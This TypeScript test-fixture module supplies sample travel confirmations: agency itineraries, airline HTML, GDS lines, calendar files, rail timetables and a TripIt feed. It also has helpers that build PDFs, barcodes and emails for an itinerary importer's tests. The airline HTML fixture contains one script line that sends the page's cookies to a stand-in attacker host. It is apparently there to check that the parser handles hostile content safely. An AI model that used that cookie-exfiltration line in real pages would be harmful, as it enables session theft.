// Confirmations written for the project's tests and the import bench, one of each kind people get:
// a US corporate agency's plain-text itinerary, a European airline's HTML mail (no schema.org
// data), GDS segment lines, a PDF itinerary attached to a mail, a forwarded mail with the
// confirmation nested inside, a calendar invitation, HTML with broken schema.org data, and a
// boarding pass whose barcode is an image only.
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import PDFDocument from 'pdfkit';
import { prepareZXingModule, writeBarcode } from 'zxing-wasm/writer';

export const agencyText = `CORPORATE TRAVEL PARTNERS - ITINERARY
Prepared for: SMITH/JANE MS              Agency record locator: QX7TRB

Monday, March 16, 2026
  AIR   United Airlines   Flight UA 1143        Confirmation: KLM4QZ
        Depart: 7:05 AM   Newark, NJ (EWR)
        Arrive: 10:20 AM  Chicago O'Hare, IL (ORD)
        Seat: 14C   Economy   Non-stop   Duration 2hr 15min

  HOTEL  Hilton Chicago
        Address: 720 S Michigan Ave, Chicago, IL 60605
        Check-in: Mon 16 Mar 2026   Check-out: Thu 19 Mar 2026
        Confirmation: 3345987721

  CAR   Hertz   Intermediate SUV      Confirmation: H88213409
        Pick-up: March 16, 2026 11:00 AM   Pick-up location: Chicago O'Hare Airport
        Return: March 19, 2026 2:30 PM     Return location: Chicago O'Hare Airport

Thursday, March 19, 2026
  AIR   United Airlines   Flight UA 2210        Confirmation: KLM4QZ
        Depart: 5:45 PM   Chicago O'Hare, IL (ORD)
        Arrive: 9:02 PM   Newark, NJ (EWR)
        Seat: 22A

Please arrive at the airport at least 90 minutes before departure.
`;

export const airlineHtml = `<!DOCTYPE html><html><head><title>Ihre Buchung</title>
<style>td { padding: 4px }</style></head><body>
<table><tr><td><img src="https://tracker.example.com/pixel.gif" width="1" height="1"></td></tr>
<tr><td><h1>Buchungsbestätigung / Booking confirmation</h1></td></tr>
<tr><td>Buchungscode / Booking code: <b>Z9KD4P</b></td></tr></table>
<table>
<tr><th>Flug</th><th>Datum</th><th>Von</th><th>Nach</th><th>Abflug</th><th>Ankunft</th></tr>
<tr><td>LH 2036</td><td>24.04.2026</td><td>Frankfurt (FRA)</td><td>Wien (VIE)</td><td>06:45</td><td>08:05</td></tr>
<tr><td>LH 6327</td><td>27.04.2026</td><td>Wien (VIE)</td><td>Frankfurt (FRA)</td><td>18:40</td><td>20:05</td></tr>
</table>
<script>document.location = 'https://evil.example.com/?' + document.cookie</script>
<p>Gute Reise! <a href="https://www.example.com/checkin">Online check-in</a></p>
</body></html>`;

export const gdsText = `*** ELECTRONIC TICKET ITINERARY ***
RECORD LOCATOR: 7HQ2KM
 1.1SMITH/JANE MS
 1 BA 117 J 16MAR 1 LHRJFK HK1  0825 1110  16MAR  E  BA/7HQ2KM
 2 BA 178 J 22MAR 7 JFKLHR HK1  1830 0635  23MAR  E  BA/7HQ2KM
TKT 125-4412345678
`;

export const brokenJsonLdHtml = `<html><body>
<script type="application/ld+json">
{
  "@type": "http://schema.org/FlightReservation",
  "reservationNumber": "WX42PL",
  "reservationFor": {
    "@type": "Flight",
    "flightNumber": "AF1234",
    "airline": "Air France",
    "departureAirport": "CDG",
    "arrivalAirport": { "iataCode": "NCE" },
    "departureTime": "2026-06-02T09:15:00",
    "arrivalTime": "2026-06-02T10:40:00",
  },
}
</script>
<script type="application/ld+json">
[{ "@context": "https://schema.org", "@type": "LodgingReservation", "reservationNumber": "88231",
   "reservationFor": { "@type": "Hotel", "name": "Hôtel Négresco", "address": "37 Promenade des Anglais, Nice" },
   "checkinDate": "2026-06-02", "checkoutDate": "2026-06-05" }]
</script>
<p>Merci !</p></body></html>`;

export const invitationIcs = `BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//Example Rail//Booking//EN
BEGIN:VEVENT
UID:rail-20260410-ice597@example.com
DTSTAMP:20260301T120000Z
DTSTART;TZID=Europe/Berlin:20260410T093400
DTEND;TZID=Europe/Berlin:20260410T134100
SUMMARY:Train ICE 597 Berlin Hbf - München Hbf
DESCRIPTION:Booking number: DB8812345\\nTrain: ICE 597\\nFrom: Berlin Hbf\\nTo: München Hbf\\nCoach 7\\, seat 45
END:VEVENT
END:VCALENDAR
`;

/**
 * A rail e-ticket's timetable in columns: the year only in the heading, a change of train on the
 * way out, and a return after New Year written without its year.
 */
export const railTimetableText = `Alpine Rail e-ticket                                   Order number: ARX48213
Outward journey on 30.12.2026
Station                     Date      Time         Platform   Train         Seat
Zürich HB                   30.12.    dep 22:02    31         IC 577        Car 7, seat 45
Chur                        30.12.    arr 23:17    9
Chur                        30.12.    dep 23:25    2          RE 1861
St. Moritz                  31.12.    arr 01:24    3
Return journey
St. Moritz                  02.01.    dep 16:02    2          RE 1144
Zürich HB                   02.01.    arr 19:28    33
Please carry a photo ID.`;

/** A coach booking's stops in sentences' order: the time before the stop, the arrival past midnight. */
export const coachText = `Your coach booking 5521-0987 is confirmed.
Travel date: Saturday 14 November 2026
Dep. 21:40  Lyon Perrache, bay 12
Arr. 06:05  Barcelona Nord
Have a good trip with our buses!`;

/** Rail legs each written as a route on one line, the date above them. */
export const railRoutesText = `Your train tickets - booking reference TRX55812
Travel date: 14 March 2027
Leeds (LDS) to York (YRK), dep 08:12, arr 08:41
York (YRK) to Edinburgh Waverley (EDB), dep 09:05, arr 11:38
Show the ticket on your phone to the guard.`;

/** A rail journey pasted from a calendar entry: labels a mail also has on its first lines, a bus leg named 'Bus51016'. */
export const labelledBusText = `Date: 26.07.2027
From: Koblenz Hbf
To: Luxembourg
dep. 06:03 Koblenz Hbf - Platform 9 (RE 4100)
arr. 07:31 Trier Hbf - Platform 11

dep. 07:41 Trier Hbf  (Bus51016)
arr. 08:31 Luxembourg`;

/** A one-page PDF itinerary as agencies attach it: text in columns, laid out by pdfkit. */
export async function itineraryPdf(options: { password?: string; textLayer?: boolean } = {}): Promise<Buffer> {
  const doc = new PDFDocument({ size: 'A4', margin: 50, ...(options.password ? { userPassword: options.password, pdfVersion: '1.7' as const } : {}) });
  const chunks: Buffer[] = [];
  doc.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise<Buffer>((resolve) => doc.on('end', () => resolve(Buffer.concat(chunks))));
  if (options.textLayer === false) {
    // A scan: shapes only, no text.
    doc.rect(50, 50, 400, 300).fill('#888888');
  } else {
    doc.fontSize(16).text('Travel itinerary', 50, 50);
    doc.fontSize(10).text('Booking reference: PDF7QK', 50, 80);
    const row = (y: number, cells: string[]) => cells.forEach((c, i) => doc.text(c, 50 + i * 95, y, { lineBreak: false }));
    row(120, ['Flight', 'Date', 'From', 'To', 'Departs', 'Arrives']);
    row(140, ['AC 871', '05 May 2026', 'Toronto (YYZ)', 'Paris (CDG)', '18:30', '07:45 +1']);
    doc.addPage();
    doc.fontSize(10).text('Page 2: baggage rules apply.', 50, 50);
  }
  doc.end();
  return done;
}

let writerReady = false;

/** A barcode of `message` as a PNG, drawn by ZXing's writer (its binary from disk). */
export async function barcodePng(message: string, format: 'PDF417' | 'Aztec' | 'QRCode' = 'PDF417'): Promise<Buffer> {
  if (!writerReady) {
    const wasm = readFileSync(createRequire(import.meta.url).resolve('zxing-wasm/writer/zxing_writer.wasm'));
    prepareZXingModule({ overrides: { wasmBinary: wasm.buffer.slice(wasm.byteOffset, wasm.byteOffset + wasm.byteLength) } });
    writerReady = true;
  }
  const { image, error } = await writeBarcode(message, { format, scale: 3 });
  if (!image) throw new Error(`the barcode could not be drawn: ${error}`);
  return Buffer.from(await image.arrayBuffer());
}

/** A boarding pass an airline sends as a PDF: `lines` of text, and each of `barcodes` an image only. */
export async function boardingPassPdf(lines: string[], barcodes: Buffer[], created = new Date('2026-03-02T09:00:00Z')): Promise<Buffer> {
  const doc = new PDFDocument({ size: 'A4', margin: 50, info: { CreationDate: created } });
  const chunks: Buffer[] = [];
  doc.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise<Buffer>((resolve) => doc.on('end', () => resolve(Buffer.concat(chunks))));
  doc.fontSize(12);
  lines.forEach((line, i) => doc.text(line, 50, 50 + i * 18, { lineBreak: false }));
  barcodes.forEach((png, i) => doc.image(png, 50 + (i % 4) * 120, 300 + Math.floor(i / 4) * 120, { fit: [110, 110] }));
  doc.end();
  return done;
}

/** A mail, as a mail client writes it to disk, from its parts. */
export async function mail(parts: {
  subject?: string;
  date?: string;
  text?: string;
  html?: string;
  attachments?: { filename: string; content: Buffer | string; contentType: string; contentDisposition?: 'attachment' | 'inline' }[];
  /** Base64 for the text parts (megabytes of text compose ten times faster so than as quoted-printable). */
  textEncoding?: 'base64';
}): Promise<Buffer> {
  const composer = new MailComposer({
    ...(parts.textEncoding ? { textEncoding: parts.textEncoding } : {}),
    from: 'Travel Desk <desk@agency.example>',
    to: 'jane@example.com',
    subject: parts.subject ?? 'Your itinerary',
    date: new Date(parts.date ?? '2026-02-20T15:00:00Z'),
    text: parts.text,
    html: parts.html,
    attachments: parts.attachments,
  });
  return composer.compile().build();
}

/** A mail forwarded with the original attached as message/rfc822. */
export async function forwardedMail(original: Buffer): Promise<Buffer> {
  return mail({
    subject: 'Fwd: Your itinerary',
    text: 'See below, for the March trip.\n',
    attachments: [{ filename: 'original.eml', content: original, contentType: 'message/rfc822', contentDisposition: 'attachment' }],
  });
}

/**
 * A trip's calendar from TripIt, as its feed and its trips' calendar files give it (the layout of
 * TripIt's events; every name, time and number here made up): instants in UTC, the wall-clock time
 * and the zone's abbreviation in the description under '[Flight]', '[Rail]', '[Lodging]', '[Car]',
 * '[Activity]'; check-in and check-out, pick-up and drop-off as events of their own; the trip as
 * an all-day event.
 */
export const tripItIcs = `BEGIN:VCALENDAR
VERSION:2.0
X-WR-CALNAME:TripIt
METHOD:PUBLISH
BEGIN:VEVENT
UID:trip-90001@tripit.com
DTSTAMP:20260701T100000Z
DTSTART;VALUE=DATE:20260718
DTEND;VALUE=DATE:20260723
SUMMARY:Hamburg, Germany, July 2026
LOCATION:Hamburg, Germany
DESCRIPTION:View and/or edit details in TripIt : https://www.tripit.com/trip/show/id/90001\\n \\n\\nTripIt - organize your travel at https://www.tripit.com
END:VEVENT
BEGIN:VEVENT
UID:trip-90002@tripit.com
DTSTAMP:20260701T100000Z
DTSTART;VALUE=DATE:20260724
DTEND;VALUE=DATE:20260727
SUMMARY:Newark, NJ, July 2026
LOCATION:Newark, NJ
DESCRIPTION:View and/or edit details in TripIt : https://www.tripit.com/trip/show/id/90002
END:VEVENT
BEGIN:VEVENT
UID:item-flight-1@tripit.com
DTSTAMP:20260701T100000Z
DTSTART:20260719T020000Z
DTEND:20260719T094500Z
SUMMARY:LH401 JFK to FRA
LOCATION:New York (JFK)
DESCRIPTION:View and/or edit details in TripIt : https://www.tripit.com/trip/show/id/90001\\n \\n\\nSat\\, Jul 18\\n22:00  EDT\\n[Flight] LH401 JFK to FRA\\nDepart New York (JFK) Terminal 1\\n \\nSun\\, Jul 19\\n11:45  CEST\\nArrive Frankfurt (FRA) Terminal 1\\nConfirmation #: K7QX2P\\nSeat: 32C\\n \\n\\nTripIt - organize your travel at https://www.tripit.com
END:VEVENT
BEGIN:VEVENT
UID:item-rail-1@tripit.com
DTSTAMP:20260701T100000Z
DTSTART:20260719T120400Z
DTEND:20260719T161100Z
SUMMARY:DB - Frankfurt (Main) Hbf to Hamburg Hbf
LOCATION:Frankfurt (Main) Hbf\\; Am Hauptbahnhof\\, 60329 Frankfurt am Main\\, Germany
DESCRIPTION:View and/or edit details in TripIt : https://www.tripit.com/trip/show/id/90001\\n \\n\\nSun\\, Jul 19\\n14:04  CEST\\n[Rail] DB - Frankfurt (Main) Hbf to Hamburg Hbf\\nDepart Frankfurt (Main) Hbf Am Hauptbahnhof\\, 60329 Frankfurt am Main\\, Germany\\n \\nSun\\, Jul 19\\n18:11  CEST\\nArrive Hamburg Hbf Hachmannplatz 16\\, 20099 Hamburg\\, Germany\\nConfirmation #: 482913004512\\n \\n\\nTripIt - organize your travel at https://www.tripit.com
END:VEVENT
BEGIN:VEVENT
UID:item-hotel-in@tripit.com
DTSTAMP:20260701T100000Z
DTSTART:20260719T130000Z
DTEND:20260719T130000Z
SUMMARY:Check-in: Hotel Atlantic Hamburg
LOCATION:An der Alster 72-79\\, 20099 Hamburg\\, Germany
DESCRIPTION:Sun\\, Jul 19\\n15:00  CEST\\n[Lodging] Arrive Hotel Atlantic Hamburg\\nCheck-In: 15:00\\nConfirmation #: 77.120.4455
END:VEVENT
BEGIN:VEVENT
UID:item-hotel-out@tripit.com
DTSTAMP:20260701T100000Z
DTSTART:20260722T090000Z
DTEND:20260722T090000Z
SUMMARY:Check-out: Hotel Atlantic Hamburg
LOCATION:An der Alster 72-79\\, 20099 Hamburg\\, Germany
DESCRIPTION:Wed\\, Jul 22\\n11:00  CEST\\n[Lodging] Depart Hotel Atlantic Hamburg\\nCheck-Out: 11:00\\nConfirmation #: 77.120.4455
END:VEVENT
BEGIN:VEVENT
UID:item-activity-1@tripit.com
DTSTAMP:20260701T100000Z
DTSTART:20260720T071500Z
DTEND:20260720T120000Z
SUMMARY:Miniatur Wunderland
LOCATION:Kehrwieder 2\\, 20457 Hamburg\\, Germany
DESCRIPTION:View and/or edit details in TripIt : https://www.tripit.com/trip/show/id/90001\\n \\n\\nMon\\, Jul 20\\n09:15  CEST\\n[Activity] Miniatur Wunderland\\n09:15 to 14:00\\n \\n\\nTripIt - organize your travel at https://www.tripit.com
END:VEVENT
BEGIN:VEVENT
UID:item-car-up@tripit.com
DTSTAMP:20260701T100000Z
DTSTART:20260724T140000Z
DTEND:20260724T140000Z
SUMMARY:Pick Up Rental Car: Hertz
LOCATION:Newark Liberty International Airport (EWR)\\, Newark\\, NJ
DESCRIPTION:Fri\\, Jul 24\\n10:00 AM  EDT\\n[Car] Pick up Hertz\\nConfirmation #: H7741205
END:VEVENT
BEGIN:VEVENT
UID:item-car-off@tripit.com
DTSTAMP:20260701T100000Z
DTSTART:20260726T220000Z
DTEND:20260726T220000Z
SUMMARY:Drop Off Rental Car: Hertz
LOCATION:Newark Liberty International Airport (EWR)\\, Newark\\, NJ
DESCRIPTION:Sun\\, Jul 26\\n6:00 PM  EDT\\n[Car] Drop off Hertz\\nConfirmation #: H7741205
END:VEVENT
END:VCALENDAR
`;
